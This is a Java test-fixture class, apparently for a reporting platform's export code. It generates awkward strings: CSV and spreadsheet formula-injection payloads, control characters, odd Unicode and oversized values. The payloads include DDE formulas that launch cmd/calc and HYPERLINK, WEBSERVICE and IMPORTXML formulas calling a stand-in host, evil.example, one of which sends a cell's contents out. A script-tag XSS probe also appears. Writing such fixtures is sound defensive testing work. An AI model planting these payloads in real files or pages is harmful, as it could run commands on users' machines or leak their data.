package org.clientele.platform.report;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Texts that files and spreadsheets stumble over. */
public final class OddTexts {
    private OddTexts() {}

    private static final String[] COMMANDS = {
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "SUM(A1:A9)",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "WEBSERVICE(\"http://evil.example\")",
        "IMPORTXML(\"http://evil.example\",\"//a\")",
        "2",
        "A1",
        "\"quoted\""
    };

    private static final String[] STARTS = {
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "  +",
        "\u00A0=",
        "\u3000@",
        "＝",
        "＋",
        "－",
        "＠",
        "'=",
        "''",
        "'",
        "\"=",
        ";=",
        ",=",
        "|",
        "%",
        "=\t",
        "-=",
        "+-",
        "@@",
        "foo;=",
        "foo,=",
        "foo\n=",
        "foo\r\n+",
        "foo\t-"
    };

    /** At least 500 texts that try to become a formula. */
    public static List<String> injections() {
        List<String> all = new ArrayList<>();
        for (String start : STARTS) {
            for (String command : COMMANDS) {
                all.add(start + command);
                all.add(start + command + "\"");
            }
        }
        return all;
    }

    /** Texts of every other kind that is hard to keep. */
    public static List<String> strange() {
        return List.of(
                "",
                " ",
                "  two blanks around  ",
                "line\nfeed",
                "carriage\rreturn",
                "both\r\nof them",
                "tab\tinside",
                "quote \" inside",
                "comma, semicolon; pipe | and & < > ' signs",
                "]]> and <!-- and <script>alert(1)</script>",
                "_x000D_ is only a text",
                "_x005F_x0041_",
                "مرحبا بالعالم",
                "שלום \u202Eעולם\u202C",
                "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301",
                "漢字かな交じり文",
                "00123",
                "1e5",
                "2011-12-09",
                "TRUE",
                "9".repeat(400),
                "x".repeat(32_767));
    }

    /** Texts that no XML can hold as they are. */
    public static List<String> impossible() {
        return List.of(
                "nul\u0000here",
                "bell\u0007",
                "escape\u001B[31m",
                "half \uD83D a pair",
                "\uDC00 the other half",
                "not a character \uFFFE\uFFFF",
                "\u0001\u0002\u0003");
    }

    /** A text of any characters at all. */
    public static String random(Random random) {
        StringBuilder s = new StringBuilder();
        int length = random.nextInt(24);
        for (int i = 0; i < length; i++) {
            int kind = random.nextInt(6);
            switch (kind) {
                case 0 -> s.append((char) random.nextInt(0x20));
                case 1 -> s.append("=+-@'\",;\t\r\n_x".charAt(random.nextInt(13)));
                case 2 -> s.append((char) random.nextInt(0x10000));
                case 3 -> s.appendCodePoint(random.nextInt(0x110000));
                default -> s.append((char) (0x20 + random.nextInt(0x5F)));
            }
        }
        return s.toString();
    }
}
